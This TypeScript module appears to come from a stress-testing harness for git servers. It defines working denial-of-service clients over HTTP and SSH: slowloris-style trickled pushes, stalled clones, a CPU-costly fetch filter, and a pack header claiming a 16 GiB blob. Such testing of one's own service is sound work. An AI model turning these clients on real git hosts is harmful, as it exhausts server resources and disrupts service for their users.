/** Attacks with requests of git clients, over HTTP and SSH. */
import { once } from 'node:events';
import { Client, type ClientChannel } from 'ssh2';
import {
  requestHead,
  silentClient,
  socketClient,
  writeSlowly,
  type Attack,
  type AttackTarget,
  type HostileClient,
} from './hostile-client';

const MIB = 1024 * 1024;
const packetLine = (text: string): string => (text.length + 4).toString(16).padStart(4, '0') + text;

/** A new branch, and the beginning of a pack. */
const UPDATE = `${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/slow\0report-status`;
const START_OF_PUSH = Buffer.from(`${packetLine(UPDATE)}0000PACK\0\0\0\x02\0\0\x27\x10`, 'latin1');
/** The beginning of a valid pack, of which git waits for the rest. */
const FAST_START_OF_PUSH = Buffer.concat([START_OF_PUSH, startOfBlob(2 * MIB)]);
const SLOW_PIECE = Buffer.alloc(512, 'x');

/** A blob of 16 GiB up to its first bytes: stored blocks of the deflate format. */
function startOfBlob(bytes: number): Buffer {
  const block = Buffer.alloc(65_535 + 5, 'x');
  block[0] = 0;
  block.writeUInt16LE(65_535, 1);
  block.writeUInt16LE(0, 3);
  return Buffer.concat([
    // Type and size of the object, and the head of a zlib stream.
    Buffer.from([0xb0, 0x80, 0x80, 0x80, 0x80, 0x08, 0x78, 0x01]),
    ...Array.from({ length: Math.ceil(bytes / block.length) }, () => block),
  ]);
}

/** A clone in protocol v0. */
const cloneOf = ({ project }: AttackTarget): string =>
  `${packetLine(`want ${project.tip} side-band-64k\n`)}0000${packetLine('done\n')}`;

/** The head of a request to `git upload-pack`. */
function uploadPackHead({ project }: AttackTarget, length: number, headers: Record<string, string> = {}): string {
  return requestHead('POST', `/${project.path}.git/git-upload-pack`, {
    'Content-Type': 'application/x-git-upload-pack-request',
    'Content-Length': String(length),
    ...headers,
  });
}

/** A fetch of everything in protocol v2, with additional lines such as a filter. */
function fetchRequest(target: AttackTarget, ...further: string[]): string {
  const lines = ['no-progress', ...further, `want ${target.project.tip}\n`, 'done\n'].map(packetLine);
  const body = `${packetLine('command=fetch')}0001${lines.join('')}0000`;
  return uploadPackHead(target, body.length, { 'Git-Protocol': 'version=2' }) + body;
}

/** A client that pushes over HTTP: `start` at once, and then `next` each second. */
function pushingClient(target: AttackTarget, start: Buffer, next?: Buffer): HostileClient {
  const { username, token } = target.user;
  return socketClient(target, (socket) => {
    const write = (chunk: Buffer): void => {
      socket.write(`${chunk.length.toString(16)}\r\n`);
      socket.write(chunk);
      socket.write('\r\n');
    };
    socket.resume();
    socket.write(
      requestHead('POST', `/${target.project.path}.git/git-receive-pack`, {
        'Content-Type': 'application/x-git-receive-pack-request',
        Authorization: `Basic ${Buffer.from(`${username}:${token}`).toString('base64')}`,
        'Transfer-Encoding': 'chunked',
      }),
    );
    write(start);
    if (next) repeatEachSecond(socket, () => write(next));
  });
}

/** Calls `write` each second, until the stream closes. */
function repeatEachSecond(stream: NodeJS.EventEmitter, write: () => void): void {
  const timer = setInterval(write, 1000);
  stream.once('close', () => clearInterval(timer));
}

/** A client that runs a command over SSH. */
function sshClient(target: AttackTarget, service: string, use: (channel: ClientChannel) => void): HostileClient {
  return async (signal, onOpen) => {
    const client = new Client();
    const close = (): void => void client.destroy();
    signal.addEventListener('abort', close, { once: true });
    client.on('error', close);
    const closed = once(client, 'close');
    client.on('ready', () => {
      client.exec(`${service} '${target.project.path}.git'`, (_error, channel) => {
        channel?.on('error', () => undefined);
        if (channel) use(channel);
        onOpen();
      });
    });
    client.connect({
      host: target.ssh.host,
      port: target.ssh.port,
      localAddress: target.localAddress,
      username: 'git',
      privateKey: target.user.privateKey,
    });
    await closed;
    signal.removeEventListener('abort', close);
  };
}

/** What the clients do, by name. */
export const gitAttacks: Record<string, Attack> = {
  'clone and read nothing': (target) => silentClient(target, fetchRequest(target)),

  'clone over protocol v0 and read nothing': (target) => {
    const body = cloneOf(target);
    return silentClient(target, uploadPackHead(target, body.length) + body);
  },

  'fetch with a filter that costs CPU': (target) => {
    const text = fetchRequest(target, `filter sparse:oid=${target.project.branch}:${target.file}`);
    return socketClient(target, (socket) => {
      socket.resume();
      socket.write(text);
    });
  },

  'send the request of a fetch slowly': (target) =>
    socketClient(target, (socket) => {
      socket.resume();
      socket.write(uploadPackHead(target, 100_000, { 'Git-Protocol': 'version=2' }));
      writeSlowly(socket, packetLine('command=fetch'));
    }),

  'push at 512 bytes a second': (target) => pushingClient(target, START_OF_PUSH, SLOW_PIECE),

  'begin to push fast and then send nothing': (target) => pushingClient(target, FAST_START_OF_PUSH),

  'push over SSH at 512 bytes a second': (target) =>
    sshClient(target, 'git-receive-pack', (channel) => {
      channel.resume();
      channel.write(START_OF_PUSH);
      repeatEachSecond(channel, () => channel.write(SLOW_PIECE));
    }),

  'open SSH sessions and send nothing': (target) =>
    sshClient(target, 'git-upload-pack', (channel) => {
      channel.resume();
    }),

  'clone over SSH and read nothing': (target) =>
    sshClient(target, 'git-upload-pack', (channel) => {
      channel.write(cloneOf(target));
    }),
};
